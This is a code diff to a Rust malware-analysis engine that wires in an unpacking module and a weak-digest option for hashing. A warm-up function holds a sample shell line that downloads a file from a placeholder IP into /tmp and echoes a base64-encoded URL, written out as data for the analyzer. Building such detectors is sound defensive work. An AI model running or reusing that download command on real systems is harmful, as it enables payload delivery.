@@ -15,7 +15,7 @@ use crate::script::Product;
 use crate::unpack::{Budget, Child, PDF_SCRIPT, Unpacking};
 use crate::{
     ENGINE, ENGINE_VERSION, Stage, android, config, elf, functions, hashes, mach, pe, script,
-    strings,
+    strings, unpack,
 };
 use std::collections::{HashMap, HashSet, VecDeque};
 use ukai_model::{
@@ -86,6 +86,7 @@ pub fn analyze_with(
 /// that its children find them there.
 pub fn prepare(rules: Option<&Rules>) {
     config::prepare();
+    unpack::prepare();
     let text = b"#!/bin/sh\nwget http://192.0.2.1/a -O /tmp/a; echo aHR0cDovLzE5Mi4wLjIuMS9h\n";
     for first in [text.as_slice(), &program()] {
         analyze_with(first, Timestamp::default(), &Limits::default(), rules, &mut |_| ());
@@ -330,7 +331,7 @@ impl Work<'_> {
 
     fn hash(&mut self) {
         let sha256 = self.analysis.sha256.to_string();
-        let mut hashes = hashes::all(self.bytes, &sha256);
+        let mut hashes = hashes::all(self.bytes, &sha256, self.limits.weak_digests);
         hashes.functions = match (&self.analysis.elf, &self.analysis.pe) {
             (Some(elf), _) => functions::of_elf(self.bytes, elf),
             (None, Some(pe)) => functions::of_pe(self.bytes, pe),
